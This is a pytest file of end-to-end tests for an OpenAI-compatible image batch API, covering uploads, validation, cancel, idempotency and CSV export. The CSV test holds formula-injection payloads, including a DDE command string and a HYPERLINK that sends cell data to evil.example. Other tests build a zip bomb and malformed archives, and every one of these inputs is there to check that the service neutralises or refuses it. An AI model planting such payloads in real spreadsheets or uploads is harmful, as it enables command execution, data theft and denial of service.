"""Batches end to end: the openai SDK against a live server and worker, the native upload, cancel, bad input."""
import base64
import csv
import dataclasses
import io
import json
import re
import time
import zipfile
from pathlib import Path
from typing import Any

import openai
import pytest
from openai.types.batch_usage import BatchUsage
from sqlalchemy import select

from service.app import create_app
from service.core import lifecycle
from service.core.models import Job, JobStatus
from tests.conftest import TINY, keyed, make_image, wait_for_status


def _line(custom_id, image=None, prompt="What is the total?", url="/v1/chat/completions", **body):
    image = image if image is not None else make_image()
    data_url = image if isinstance(image, str) else "data:image/png;base64," + base64.b64encode(image).decode()
    return {"custom_id": custom_id, "method": "POST", "url": url, "body": {
        "model": TINY, "max_tokens": 8, "messages": [{"role": "user", "content": [
            {"type": "text", "text": prompt}, {"type": "image_url", "image_url": {"url": data_url}}]}], **body}}


def _jsonl(lines):
    return "\n".join(json.dumps(line) for line in lines).encode()


def _wait_batch(client, batch_id, statuses, timeout=90):
    return wait_for_status(client, batch_id, statuses, timeout, resource="batches")


@pytest.fixture
def sdk(live_server, worker, api_key):
    return openai.OpenAI(base_url=f"{live_server}/v1", api_key=api_key, max_retries=0)


def test_the_openai_sdk_runs_a_batch_and_reads_its_output_and_error_files(sdk):
    lines = [_line(f"receipt-{i}", make_image(color=(i * 40, 10, 10))) for i in range(3)]
    lines.append(_line("broken-image", make_image()[:60]))  # parses, but the image is truncated
    lines.append(_line("remote-image", "https://example.com/r.png"))  # URLs are not fetched
    uploaded = sdk.files.create(file=("input.jsonl", _jsonl(lines)), purpose="batch")
    assert uploaded.purpose == "batch" and uploaded.bytes > 0

    batch = sdk.batches.create(input_file_id=uploaded.id, endpoint="/v1/chat/completions",
                               completion_window="24h", metadata={"run": "nightly"})
    assert batch.status in ("validating", "in_progress")
    deadline = time.monotonic() + 90
    while batch.status not in ("completed", "failed", "cancelled") and time.monotonic() < deadline:
        time.sleep(0.2)
        batch = sdk.batches.retrieve(batch.id)

    assert batch.status == "completed", batch.errors
    assert (batch.request_counts.total, batch.request_counts.completed, batch.request_counts.failed) == (5, 3, 2)
    assert batch.metadata == {"run": "nightly"}
    assert batch.in_progress_at and batch.finalizing_at and batch.completed_at

    output = [json.loads(line) for line in sdk.files.content(batch.output_file_id).text.splitlines()]
    assert sorted(line["custom_id"] for line in output) == ["receipt-0", "receipt-1", "receipt-2"]
    for line in output:
        body = line["response"]["body"]
        assert line["response"]["status_code"] == 200 and line["error"] is None
        assert body["object"] == "chat.completion" and body["model"] == TINY
        assert body["usage"]["completion_tokens"] >= 1
        assert isinstance(body["choices"][0]["message"]["content"], str)
    # The batch's usage and model, parsed by the SDK into its own types: the tokens of its items.
    assert batch.model == TINY and isinstance(batch.usage, BatchUsage)
    assert batch.usage.input_tokens == sum(line["response"]["body"]["usage"]["prompt_tokens"] for line in output)
    assert batch.usage.output_tokens == sum(line["response"]["body"]["usage"]["completion_tokens"] for line in output)
    assert batch.usage.total_tokens == batch.usage.input_tokens + batch.usage.output_tokens > 0
    assert batch.usage.input_tokens_details.cached_tokens == batch.usage.output_tokens_details.reasoning_tokens == 0

    errors = {json.loads(line)["custom_id"]: json.loads(line)["error"]
              for line in sdk.files.content(batch.error_file_id).text.splitlines()}
    assert errors["broken-image"]["code"] == "invalid_image"
    assert errors["remote-image"]["code"] == "unsupported_image_url"
    # OpenAI's purpose for both result files: its SDK and typed clients know no other
    files = [sdk.files.retrieve(batch.output_file_id), sdk.files.retrieve(batch.error_file_id)]
    assert [file.purpose for file in files] == ["batch_output", "batch_output"]
    assert batch.id in [b.id for b in sdk.batches.list(limit=100)]


@pytest.mark.parametrize(
    ("raw", "code", "line"),
    [
        (b"{not json}\n", "invalid_json_line", 1),
        (_jsonl([_line("a"), _line("a")]), "duplicate_custom_id", 2),
        (_jsonl([_line("a", url="/v1/embeddings")]), "invalid_url", 1),
        (_jsonl([{"method": "POST", "url": "/v1/chat/completions", "body": {}}]), "missing_custom_id", 1),
    ],
)
def test_a_malformed_input_file_fails_validation_with_line_numbers(sdk, raw, code, line):
    uploaded = sdk.files.create(file=("bad.jsonl", raw), purpose="batch")
    batch = sdk.batches.create(input_file_id=uploaded.id, endpoint="/v1/chat/completions", completion_window="24h")
    deadline = time.monotonic() + 30
    while batch.status == "validating" and time.monotonic() < deadline:
        time.sleep(0.1)
        batch = sdk.batches.retrieve(batch.id)
    assert batch.status == "failed" and batch.failed_at
    assert (batch.errors.data[0].code, batch.errors.data[0].line) == (code, line)
    assert batch.request_counts.total == 0  # nothing ran


def test_native_upload_of_images_and_a_zip_gives_csv_and_jsonl_results(client, worker):
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("scans/c.png", make_image(color=(0, 0, 200)))
        zipped.writestr("scans/notes.txt", b"not an image, skipped")
    response = client.post("/v1/batches", data={
        "prompt": "Total?", "model": TINY, "max_tokens": "6",
        "images": [(io.BytesIO(make_image()), "a.png"), (io.BytesIO(make_image("JPEG")), "b.jpg"),
                   (io.BytesIO(b"garbage"), "bad.png")],
        "archive": (io.BytesIO(archive.getvalue()), "more.zip"),
    })
    assert response.status_code == 200, response.get_json()
    batch = _wait_batch(client, response.get_json()["id"], {"completed"})
    assert batch["request_counts"] == {"total": 4, "completed": 3, "failed": 1, "cancelled": 0}
    assert batch["priority"] == "bulk"

    text = client.get(f"/v1/batches/{batch['id']}/results?format=csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text)))  # answers may hold newlines: quoted, so parse properly
    assert sorted(row["custom_id"] for row in rows) == ["a.png", "b.jpg", "bad.png", "scans/c.png"]
    assert {row["status"] for row in rows} == {"succeeded", "failed"}
    jsonl = client.get(f"/v1/batches/{batch['id']}/results").get_data(as_text=True)
    items = [json.loads(line) for line in jsonl.splitlines()]
    by_id = {item["custom_id"]: item for item in items}
    assert by_id["bad.png"]["status"] == "failed" and by_id["bad.png"]["error_code"] == "invalid_image"
    assert by_id["a.png"]["status"] == "succeeded" and by_id["a.png"]["completion_tokens"] >= 1


def test_cancel_stops_queued_items_and_keeps_partial_results(client, worker):
    images = [(io.BytesIO(make_image(color=(i, i, i))), f"img-{i:02d}.png") for i in range(40)]
    created = client.post("/v1/batches", data={"prompt": "Go.", "model": TINY, "max_tokens": "300",
                                                "ignore_eos": "true", "images": images}).get_json()
    deadline = time.monotonic() + 60
    while client.get(f"/v1/batches/{created['id']}").get_json()["request_counts"]["completed"] < 1:
        assert time.monotonic() < deadline
        time.sleep(0.05)
    cancelling = client.post(f"/v1/batches/{created['id']}/cancel").get_json()
    assert cancelling["status"] in ("cancelling", "cancelled")
    batch = _wait_batch(client, created["id"], {"cancelled"})
    counts = batch["request_counts"]
    assert counts["completed"] >= 1 and counts["cancelled"] >= 1
    assert counts["completed"] + counts["cancelled"] + counts["failed"] == 40
    output = client.get(f"/v1/files/{batch['output_file_id']}/content").get_data(as_text=True).splitlines()
    assert len(output) == counts["completed"]  # partial results stay readable
    assert client.post(f"/v1/batches/{created['id']}/cancel").status_code == 409


def _png(name="a.png"):
    return (io.BytesIO(make_image()), name)


BAD_BATCHES = {
    "no input file": (lambda: {"json": {"endpoint": "/v1/chat/completions"}}, "missing_field"),
    "unknown input file": (lambda: {"json": {"input_file_id": "file_x", "endpoint": "/v1/chat/completions"}},
                           "invalid_field"),
    "native without images": (lambda: {"data": {"prompt": "x"}}, "missing_field"),
    "native without prompt": (lambda: {"data": {"images": [_png()]}}, "missing_field"),
    "duplicate names": (lambda: {"data": {"prompt": "x", "images": [_png(), _png()]}}, "duplicate_custom_id"),
    "not a zip": (lambda: {"data": {"prompt": "x", "archive": (io.BytesIO(b"no"), "a.zip")}}, "invalid_archive"),
    "unknown model": (lambda: {"data": {"prompt": "x", "model": "nope", "images": [_png()]}}, "unknown_model"),
    "bad window": (lambda: {"data": {"prompt": "x", "completion_window": "forever", "images": [_png()]}},
                   "invalid_field"),
}


def _zip(**entries: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, data in entries.items():
            zipped.writestr(name, data)
    return buffer.getvalue()


def _broken(archive: bytes, edit) -> bytes:
    """The zip with its first entry's local header or data edited in place."""
    data = bytearray(archive)
    edit(data)
    return bytes(data)


def _corrupt_data(data: bytearray) -> None:
    data[40:48] = b"\xff" * 8  # inside the deflated bytes of the first entry


def _method(data: bytearray, method: int) -> None:
    for offset in (8, data.rfind(b"PK\x01\x02") + 10):  # the local and the central header
        data[offset:offset + 2] = method.to_bytes(2, "little")


def _encrypted(data: bytearray) -> None:
    for offset in (6, data.rfind(b"PK\x01\x02") + 8):
        data[offset] |= 1


def _bad_crc(data: bytearray) -> None:
    for offset in (14, data.rfind(b"PK\x01\x02") + 16):
        data[offset:offset + 4] = b"\0\0\0\0"


BROKEN_ZIPS = {
    "corrupt data": lambda zipped: _broken(zipped, _corrupt_data),
    "unknown compression": lambda zipped: _broken(zipped, lambda data: _method(data, 99)),
    "encrypted": lambda zipped: _broken(zipped, _encrypted),
    "bad crc": lambda zipped: _broken(zipped, _bad_crc),
}


@pytest.mark.parametrize("case", BROKEN_ZIPS, ids=list(BROKEN_ZIPS))
def test_a_broken_zip_is_the_clients_error(client, case):
    archive = BROKEN_ZIPS[case](_zip(**{"a.png": make_image(size=(200, 200))}))
    response = client.post("/v1/batches", data={"prompt": "x", "model": "tiny-idle",
                                                "archive": (io.BytesIO(archive), "a.zip")})
    assert response.status_code == 400, response.get_json()
    assert response.get_json()["error"]["code"] == "invalid_archive"


def test_a_zip_bomb_is_refused_from_its_directory_and_nothing_is_stored(settings, api_key):
    bounded = dataclasses.replace(settings, max_archive_entries=5, max_archive_bytes=10 * 1024 * 1024)
    client = keyed(create_app(bounded).test_client(), api_key)
    bomb = _zip(**{f"{n}.png": bytes(3 * 1024 * 1024) for n in range(4)})  # 12 MiB of zeros in a few KiB
    many = _zip(**{f"{n}.png": make_image() for n in range(6)})
    for archive, limit in ((bomb, "max_archive_bytes"), (many, "max_archive_entries")):
        before = client.get("/v1/batches?limit=1").get_json()["data"]
        response = client.post("/v1/batches", data={"prompt": "x", "model": "tiny-idle",
                                                    "archive": (io.BytesIO(archive), "bomb.zip")})
        assert response.status_code == 413
        error = response.get_json()["error"]
        assert error["code"] == "archive_too_large" and limit in error["message"]
        assert client.get("/v1/batches?limit=1").get_json()["data"] == before


def test_a_zip_whose_directory_understates_its_sizes_is_cut_off_while_reading(settings, api_key):
    bounded = dataclasses.replace(settings, max_archive_bytes=6 * 1024 * 1024)
    client = keyed(create_app(bounded).test_client(), api_key)
    archive = bytearray(_zip(**{"a.png": bytes(4 * 1024 * 1024), "b.png": bytes(4 * 1024 * 1024)}))
    central = archive.find(b"PK\x01\x02")
    while central != -1:  # claim 1 KiB each in the central directory, which the cap is first checked against
        archive[central + 24:central + 28] = (1024).to_bytes(4, "little")
        central = archive.find(b"PK\x01\x02", central + 4)
    response = client.post("/v1/batches", data={"prompt": "x", "model": "tiny-idle",
                                                "archive": (io.BytesIO(bytes(archive)), "liar.zip")})
    assert response.status_code in (400, 413)  # zipfile notices the lie itself, or the running total does
    assert response.get_json()["error"]["code"] in ("invalid_archive", "archive_too_large")


@pytest.mark.parametrize("case", BAD_BATCHES, ids=list(BAD_BATCHES))
def test_bad_batch_requests_get_clear_errors(client, case):
    build, code = BAD_BATCHES[case]
    response = client.post("/v1/batches", **build())
    assert response.status_code == 400
    assert response.get_json()["error"]["code"] == code


def test_wrong_endpoint_for_an_existing_file_is_refused(client):
    uploaded = client.post("/v1/files", data={"purpose": "batch", "file": (io.BytesIO(b"{}"), "x.jsonl")}).get_json()
    response = client.post("/v1/batches", json={"input_file_id": uploaded["id"], "endpoint": "/v1/completions"})
    assert response.get_json()["error"] == {"code": "invalid_field", "details": {"field": "endpoint"},
                                            "message": "'endpoint' must be one of /v1/chat/completions, /v1/responses."}


def test_idempotency_key_replays_the_batch(client, worker):
    data = lambda: {"prompt": "x", "model": TINY, "max_tokens": "2",  # noqa: E731
                    "images": [(io.BytesIO(make_image()), "a.png")]}
    first = client.post("/v1/batches", data=data(), headers={"Idempotency-Key": "batch-once"}).get_json()
    second = client.post("/v1/batches", data=data(), headers={"Idempotency-Key": "batch-once"})
    assert second.headers["Idempotent-Replayed"] == "true" and second.get_json()["id"] == first["id"]


def test_an_idempotency_key_reused_for_another_batch_is_refused(client):
    def create(prompt: str, image: bytes, key: str = "batch-fingerprint") -> Any:
        return client.post("/v1/batches", headers={"Idempotency-Key": key},
                           data={"prompt": prompt, "model": "tiny-idle", "images": [(io.BytesIO(image), "a.png")]})

    first = create("What is this?", make_image())
    assert first.status_code == 200 and "Idempotent-Replayed" not in first.headers
    for other in (create("Something else?", make_image()), create("What is this?", make_image(color=(1, 2, 3)))):
        assert other.status_code == 409
        assert other.get_json()["error"]["code"] == "idempotency_key_reused"
        assert other.get_json()["error"]["details"] == {"batch_id": first.get_json()["id"]}
    uploaded = client.post("/v1/files", data={"purpose": "batch", "file": (io.BytesIO(b"{}"), "x.jsonl")}).get_json()
    openai = {"input_file_id": uploaded["id"], "endpoint": "/v1/chat/completions"}
    assert client.post("/v1/batches", json=openai, headers={"Idempotency-Key": "batch-fingerprint"}).status_code == 409
    replay = create("What is this?", make_image())
    assert replay.headers["Idempotent-Replayed"] == "true" and replay.get_json()["id"] == first.get_json()["id"]
    client.post(f"/v1/batches/{first.get_json()['id']}/cancel")


def test_files_api_round_trip_and_errors(client):
    upload = {"purpose": "batch", "file": (io.BytesIO(b"hello\n"), "h.jsonl")}
    uploaded = client.post("/v1/files", data=upload).get_json()
    assert uploaded["object"] == "file" and uploaded["bytes"] == 6 and uploaded["filename"] == "h.jsonl"
    assert client.get(f"/v1/files/{uploaded['id']}").get_json() == uploaded
    assert client.get(f"/v1/files/{uploaded['id']}/content").get_data() == b"hello\n"
    assert client.delete(f"/v1/files/{uploaded['id']}").get_json() == {"id": uploaded["id"], "object": "file",
                                                                        "deleted": True}
    assert client.get(f"/v1/files/{uploaded['id']}").status_code == 404
    assert client.post("/v1/files", data={"purpose": "batch"}).get_json()["error"]["code"] == "missing_field"
    bad_purpose = client.post("/v1/files", data={"purpose": "x", "file": (io.BytesIO(b"1"), "a")}).get_json()
    assert bad_purpose["error"]["code"] == "invalid_field"


def test_a_native_batch_can_use_a_preset_and_every_item_validates(client, worker, settings):
    images = [(io.BytesIO(make_image(color=(i * 60, 0, 0))), f"photo-{i}.png") for i in range(3)]
    response = client.post("/v1/batches", data={"preset": "moderate", "model": TINY, "images": images})
    assert response.status_code == 200, response.get_json()
    batch = _wait_batch(client, response.get_json()["id"], {"completed"})
    assert batch["request_counts"]["completed"] == 3
    items = [json.loads(line) for line in client.get(f"/v1/batches/{batch['id']}/results").get_data(
        as_text=True).splitlines()]
    labels = settings.presets["moderate"].labels
    assert all(item["json"]["label"] in labels and json.loads(item["text"]) == item["json"] for item in items)


FORMULAS = ["=cmd|' /C calc'!A0", "=HYPERLINK(A1)", "+1+cmd", "-2+3", "@SUM(A1:A9)"]


def test_csv_results_neutralise_formulas_in_custom_ids_and_answers_and_keep_numbers(client, db):
    """Custom ids (file names) and answers that a spreadsheet would run get a leading quote; counts stay numbers."""
    images = [(io.BytesIO(make_image(color=(i, 0, 0))), f"{formula}.png") for i, formula in enumerate(FORMULAS)]
    created = client.post("/v1/batches", data={"prompt": "Total?", "model": "tiny-idle", "images": images})
    assert created.status_code == 200, created.get_json()
    batch_id = created.get_json()["id"]
    answers = {f"{formula}.png": answer for formula, answer in
               zip(FORMULAS, ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', "\tTab first", "\rCR first",
                                 "@attacker", "-5 plain"], strict=True)}
    with db.session() as session:  # stand in for the worker: claim and finish each item through the state machine
        jobs = {job.custom_id: job.id for job in session.scalars(select(Job).where(Job.batch_id == batch_id))}
    for custom_id, job_id in jobs.items():
        with db.session() as session:
            assert lifecycle.claim(session, job_id, "test-worker") is not None
        with db.session() as session:
            assert lifecycle.finish(session, session.get(Job, job_id), JobStatus.SUCCEEDED,
                                    result_text=answers[custom_id], prompt_tokens=11, completion_tokens=3)
    response = client.get(f"/v1/batches/{batch_id}/results?format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == (
        f"attachment; filename=\"{batch_id}.csv\"; filename*=UTF-8''{batch_id}.csv")
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
    assert sorted((row["custom_id"], row["text"]) for row in rows) == sorted(
        ("'" + custom_id, "'" + answer) for custom_id, answer in answers.items())
    for row in rows:
        assert (row["status"], row["prompt_tokens"], row["completion_tokens"], row["total_tokens"]) == (
            "succeeded", "11", "3", "14")
        assert float(row["total_ms"]) >= 0 and row["error_code"] == "" and row["job_id"].startswith("job_")
    jsonl = [json.loads(line) for line in client.get(f"/v1/batches/{batch_id}/results").get_data().splitlines()]
    assert sorted(item["text"] for item in jsonl) == sorted(answers.values())  # JSONL keeps the exact text


@pytest.mark.parametrize(("fields", "field"), [
    ({"output_expires_after": {"anchor": "created_at", "seconds": 60}}, "output_expires_after.seconds"),
    ({"output_expires_after": {"anchor": "created_at", "seconds": 3600.5}}, "output_expires_after.seconds"),
    ({"output_expires_after": {"anchor": "completed_at", "seconds": 3600}}, "output_expires_after.anchor"),
    ({"output_expires_after": 3600}, "output_expires_after"),
    ({"endpoint": "/v1/embeddings"}, "endpoint"),
])
def test_bad_openai_batch_options_are_a_400_naming_the_field(client, fields, field):
    upload = (io.BytesIO(_jsonl([_line("a")])), "a.jsonl")
    uploaded = client.post("/v1/files", data={"purpose": "batch", "file": upload})
    body = {"input_file_id": uploaded.get_json()["id"], "endpoint": "/v1/responses", **fields}
    response = client.post("/v1/batches", json=body)
    assert response.status_code == 400
    assert response.get_json()["error"]["details"]["field"] == field, response.get_json()


def test_the_readme_lists_the_csv_columns_the_export_writes(client, db):
    readme = (Path(__file__).resolve().parents[3] / "README.md").read_text()
    listed = re.search(r"CSV with the \d+ columns `([^`]+)`", readme.replace("\n", " "))
    assert listed is not None
    batch_id = client.post("/v1/batches", data={"prompt": "Total?", "model": "tiny-idle",
                                                "images": [(io.BytesIO(make_image()), "a.png")]}).get_json()["id"]
    header = client.get(f"/v1/batches/{batch_id}/results?format=csv").get_data(as_text=True).splitlines()[0]
    assert [name.strip() for name in listed.group(1).split(",")] == header.split(",")
    client.post(f"/v1/batches/{batch_id}/cancel")
